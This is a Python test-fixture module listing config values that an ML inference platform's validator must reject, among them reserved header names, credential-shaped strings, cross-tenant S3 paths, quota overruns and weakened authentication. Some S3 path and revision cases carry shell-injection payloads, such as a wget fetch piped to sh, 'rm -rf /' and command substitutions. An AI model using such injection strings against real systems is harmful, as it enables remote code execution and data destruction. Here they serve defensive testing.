"""Mistaken config values a platform rule refuses (RULE_CASES), which tests/test_hostile_input.py previews
(test_mistaken_config_value): header names, credentials in clear, tenants' groups and data, S3 locations, EKS's
quotas, what would leave a model or tenant without servers, weakened authentication, Hugging Face repository ids
and S3 revisions, other strings that reach manifests, and sizes past what Kubernetes admits."""

from __future__ import annotations

from typing import Any, Callable

from .hostile_cases import DEV_M, EKS, INT32_OVER, POOL, M, _set

# (id, stack, mutation of its project config, the key the message must name)
RULE_CASES: list[tuple[str, str, Callable[[dict[str, Any]], None], str]] = [
    # Headers under a prefix the gateway strips from clients would never arrive.
    (
        "override-header-a-picker-header",
        "dev",
        _set(*DEV_M, "release", "overrideHeader", "x-llm-d-version"),
        "models[0].release.overrideHeader",
    ),
    ("user-key-a-vllm-header", "dev", _set(*DEV_M, "release", "userKeyHeader", "x-vllm-user"), "models[0].release.userKeyHeader"),
    ("tier-header-a-gateway-header", "dev", _set("traffic", "tierHeader", "x-gateway-tier"), "traffic.tierHeader"),
    # Header names that mean something else on the path: hop-by-hop, framing, credentials, the
    # proxies' own; and one setting's header taken by another.
    *(
        (f"header-{name}", "dev", _set(*path, name), key)
        for name, path, key in (
            ("connection", ("traffic", "tierHeader"), "traffic.tierHeader"),
            ("transfer-encoding", ("traffic", "bucketHeader"), "traffic.bucketHeader"),
            ("content-length", ("traffic", "modelHeader"), "traffic.modelHeader"),
            ("host", (*DEV_M, "release", "overrideHeader"), "models[0].release.overrideHeader"),
            ("authorization", (*DEV_M, "release", "userKeyHeader"), "models[0].release.userKeyHeader"),
            ("cookie", (*DEV_M, "release", "overrideHeader"), "models[0].release.overrideHeader"),
            ("x-envoy-original-path", ("traffic", "tierHeader"), "traffic.tierHeader"),
            ("x-forwarded-for", (*DEV_M, "release", "userKeyHeader"), "models[0].release.userKeyHeader"),
            ("x-request-id", ("traffic", "bucketHeader"), "traffic.bucketHeader"),
            ("x" * 65, ("traffic", "modelHeader"), "traffic.modelHeader"),
        )
    ),
    # A credential anywhere but the secret keys (it would reach resource inputs and the report).
    *(
        (f"credential-{kind}", "prod", _set(*path, value), key)
        for kind, path, value, key in (
            ("aws-key-in-a-tenant-group", ("tenants", 0, "groups", 0), "AKIA" + "Q" * 16, "tenants[0].groups[0]"),
            ("github-token-as-a-header", ("traffic", "tierHeader"), "ghp_" + "a1" * 18, "traffic.tierHeader"),
            (
                "hf-token-in-a-revision",
                ("models", 0, "versions", 0, "source", "revision"),
                "hf_" + "b2" * 12,
                "models[0].versions[0].source.revision",
            ),
            (
                "private-key-in-jwks",
                ("traffic", "authentication", "jwksUri"),
                "-----BEGIN RSA PRIVATE KEY-----",
                "traffic.authentication.jwksUri",
            ),
        )
    ),  # fmt: skip
    # A group bound to two tenants' Roles would see and restart both tenants' workloads.
    (
        "group-of-two-tenants",
        "prod",
        lambda raw: raw["tenants"][0].update(groups=["ml-platform"]) or raw["tenants"][1].update(groups=["ml-platform"]),
        "tenants[1].groups[0]",
    ),
    (
        "override-header-is-the-user-key",
        "dev",
        _set(*DEV_M, "release", "overrideHeader", "x-user-id"),
        "models[0].release.overrideHeader",
    ),
    # S3 locations go into the batch jobs' shell scripts and into IAM resources: no shell syntax.
    *(
        (f"s3-{where}-{name}", "prod", _set(*path, value), key)
        for where, path, key in (
            ("batch-output", ("batchJobs", 0, "output"), "batchJobs[0].output"),
            ("batch-input", ("batchJobs", 0, "input", "s3Uri"), "batchJobs[0].input.s3Uri"),
            ("adapter-source", ("models", 1, "adapters", 1, "source", "s3Uri"), "models[1].adapters[1].source.s3Uri"),
        )
        for name, value in (
            ("command-substitution", "s3://team-b-batch/out/$(wget -qO- http://x|sh)"),
            ("backticks", "s3://team-b-batch/out/`id`"),
            ("semicolon", "s3://team-b-batch/out;rm -rf /"),
            ("space", "s3://team-b-batch/out put"),
            ("glob", "s3://team-b-batch/out/*"),
            ("quote", "s3://team-b-batch/out'x"),
            ("newline", "s3://team-b-batch/out\nx"),
            ("non-ascii", "s3://team-b-batch/\u00e9t\u00e9"),
            ("too-long", "s3://team-b-batch/" + "a" * 1100),
        )
    ),
    # Data belongs to its tenant: team-b's batch job overwriting the weight mirror's copy of the shared 70B, or
    # reading team-a's data; a tenant's model reading another tenant's adapters; prefixes that overlap or claim the
    # platform's mirror bucket.
    (
        "batch-output-into-the-mirror",
        "prod",
        _set("batchJobs", 0, "output", "s3://inference-prod-model-weights/serving/x"),
        "batchJobs[0].output",
    ),
    (
        "batch-input-of-another-tenant",
        "prod",
        _set("batchJobs", 0, "input", "s3Uri", "s3://team-a-data/tickets"),
        "batchJobs[0].input.s3Uri",
    ),
    (
        "adapter-of-another-tenant",
        "prod",
        _set("models", 1, "adapters", 1, "source", "s3Uri", "s3://team-b-batch/adapters/sql"),
        "models[1].adapters[1].source.s3Uri",
    ),
    ("bucket-prefix-of-a-sibling", "prod", _set("batchJobs", 0, "output", "s3://team-b-batch-other/out"), "batchJobs[0].output"),
    (
        "tenant-claims-the-mirror",
        "prod",
        _set("tenants", 1, "s3Prefixes", ["s3://inference-prod-model-weights"]),
        "tenants[1].s3Prefixes[0]",
    ),
    # Sizes EKS refuses (its service quotas): nodes per managed node group, node groups, public endpoint CIDRs.
    ("pool-beyond-the-node-group-quota", "prod", _set(*POOL, "maxSize", 451), "nodePools[0].maxSize"),
    (
        "system-nodes-beyond-the-quota",
        "prod",
        _set(*EKS, "systemNodeGroup", {"maxSize": 1000}),
        "cluster.eks.systemNodeGroup.maxSize",
    ),
    (
        "thirty-gpu-pools",
        "prod",
        lambda raw: raw.update(nodePools=[{**raw["nodePools"][0], "name": f"pool-{i}"} for i in range(30)]),
        "nodePools",
    ),
    (
        "forty-one-public-cidrs",
        "prod",
        _set(*EKS, "publicAccessCidrs", [f"198.51.{i}.0/24" for i in range(41)]),
        "cluster.eks.publicAccessCidrs",
    ),
    ("acknowledge-an-unknown-weakening", "prod", _set("acknowledge", ["remove-everything"]), "acknowledge[0]"),
    ("acknowledge-a-removal-of-no-name", "prod", _set("acknowledge", ["remove-model:"]), "acknowledge[0]"),
    ("acknowledge-a-move-of-no-name", "prod", _set("acknowledge", ["move-model"]), "acknowledge[0]"),
    # What would take every server of a model or a tenant without removing it (platform_config/guard_rails.py): each
    # refused by the config, so no guard rail needs to see it.
    ("no-replica-at-most", "prod", _set("models", 2, "autoscaling", "maxReplicas", 0), "models[2].autoscaling.maxReplicas"),
    (
        "production-scaled-to-zero",
        "prod",
        _set("models", 3, "autoscaling", "minReplicas", 0),
        "models[3].autoscaling.minReplicas",
    ),
    ("tenant-quota-of-no-gpu", "prod", _set("tenants", 0, "quota", "gpu", 0), "tenants[0].quota.gpu"),
    # Weakenings of authentication the config refuses outright.
    (
        "issuer-over-plain-http",
        "prod",
        _set(
            "traffic",
            "authentication",
            {
                "issuer": "http://login.inference.example.com",
                "audiences": ["inference-api"],
                "jwksUri": "https://login.inference.example.com/.well-known/jwks.json",
            },
        ),
        "traffic.authentication.issuer",
    ),
    (
        "any-principal-may-force-a-version",
        "prod",
        _set("traffic", "authentication", "versionOverridePrincipals", ["https://login.inference.example.com/*"]),
        "traffic.authentication.versionOverridePrincipals",
    ),
    # Reported at the later of the two claims (team-b), naming the earlier one.
    (
        "tenant-claims-anothers-data",
        "prod",
        _set("tenants", 1, "s3Prefixes", ["s3://team-b-batch/outputs"]),
        "tenants[2].s3Prefixes[0]",
    ),
    # Hugging Face repository ids by the Hub's rule, in ASCII: prod has a weight mirror, whose copy of a revision is
    # named after the repository (this crashed the preview with the mirror's pydantic error).
    *(
        (
            f"huggingface-{name}",
            "prod",
            _set(*M, "versions", 0, "source", "huggingface", value),
            "models[0].versions[0].source.huggingface",
        )
        for name, value in (
            ("non-ascii", "meta-llama/Llama-3.1-70B-Instruct\u00e9"),
            ("5000-characters", "meta-llama/" + "a" * 5000),
            ("double-dash", "meta-llama/Llama--3"),
            ("dot-git", "meta-llama/Llama.git"),
            ("three-parts", "a/b/c"),
        )
    ),
    (
        "batch-input-huggingface-non-ascii",
        "prod",
        _set("batchJobs", 0, "input", {"huggingface": "team-b/tick\u00e9ts", "revision": "a" * 40, "files": ["a.jsonl"]}),
        "batchJobs[0].input.huggingface",
    ),
    # S3 revisions are version folders: no glob (an IAM resource `.../*/`), quote, command substitution, non-ASCII,
    # or unbounded length, on model versions, adapters and batch inputs alike.
    *(
        (f"s3-revision-{name}", "prod", _set(*path, value), key)
        for path, key in (
            (("models", 1, "adapters", 1, "source", "revision"), "models[1].adapters[1].source.revision"),
            (
                ("models", 1, "adapters", 0, "versions", 1, "source", "revision"),
                "models[1].adapters[0].versions[1].source.revision",
            ),
            (("batchJobs", 0, "input", "revision"), "batchJobs[0].input.revision"),
        )
        for name, value in (
            ("glob", "*"),
            ("quote-and-substitution", "x'$(id)"),
            ("non-ascii", "caf\u00e9"),
            ("5000-characters", "a" * 5000),
            ("two-segments", "2026/11"),
        )
    ),
    # Other strings that reach manifests: a group (a RoleBinding subject), a step override's reason (an annotation).
    ("tenant-group-non-ascii", "prod", _set("tenants", 1, "groups", ["\u00e9quipe-a"]), "tenants[1].groups[0]"),
    (
        "step-override-reason-newline",
        "prod",
        _set("models", 1, "release", "stepOverride", {"reason": "incident 42\nrollout"}),
        "models[1].release.stepOverride.reason",
    ),
    # Sizes past what Kubernetes admits: an Indexed Job's completions with backoffLimitPerIndex, and its parallelism.
    (
        "batch-shards-past-100000",
        "prod",
        lambda raw: raw["batchJobs"][0].update(lines=INT32_OVER - 1, shardLines=1, chunkLines=1),
        "batchJobs[0].lines",
    ),
    ("batch-parallelism-past-100000", "prod", _set("batchJobs", 0, "parallelism", 100_001), "batchJobs[0].parallelism"),
    ("cpu-offload-infinite", "dev", _set(*DEV_M, "server", "cpuOffloadGb", float("inf")), "models[0].server.cpuOffloadGb"),
]
